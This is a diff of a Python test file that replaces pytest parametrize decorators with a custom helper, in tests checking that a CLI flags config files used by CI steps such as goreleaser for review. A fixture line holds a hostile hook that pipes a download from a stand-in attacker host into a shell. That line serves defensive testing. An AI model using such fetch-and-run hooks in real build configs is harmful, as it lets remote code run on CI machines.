@@ -7,9 +7,9 @@ from __future__ import annotations
 
 from pathlib import Path
 
-import pytest
 from gitrepo import two_commits
 from incli import tree_classify, tree_gate
+from tables import each_case
 
 WORKFLOW = "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n{steps}"
 EVIL = "before:\n  hooks:\n  - curl https://evil.example/x | sh\n"
@@ -46,7 +46,7 @@ def _assert_reviewed(tmp_path: Path, steps: str, path: str, files: dict[str, str
     assert found[path]["bucket"] == "ci" or code != 0, (found, decision)
 
 
-@pytest.mark.parametrize("case", sorted(STEPS))
+@each_case("case", sorted(STEPS))
 def test_a_hidden_handing_still_makes_the_file_ci(tmp_path: Path, case: str) -> None:
     steps, path = STEPS[case]
     _assert_reviewed(tmp_path, steps, path)
@@ -66,13 +66,13 @@ MORE: dict[str, tuple[dict[str, str], str, str]] = {
 }
 
 
-@pytest.mark.parametrize("case", sorted(MORE))
+@each_case("case", sorted(MORE))
 def test_more_hidden_handings(tmp_path: Path, case: str) -> None:
     files, steps, path = MORE[case]
     _assert_reviewed(tmp_path, steps, path, files)
 
 
-@pytest.mark.parametrize(("steps", "path"), [
+@each_case(("steps", "path"), [
     ("      - uses: goreleaser/goreleaser-action@v6\n        with:\n          args: >-\n            release\n"
      "            --config tools/rel.yaml\n", "tools/rel.yaml"),
     ("      - uses: goreleaser/goreleaser-action@v6\n        with:\n          workdir: sub\n"
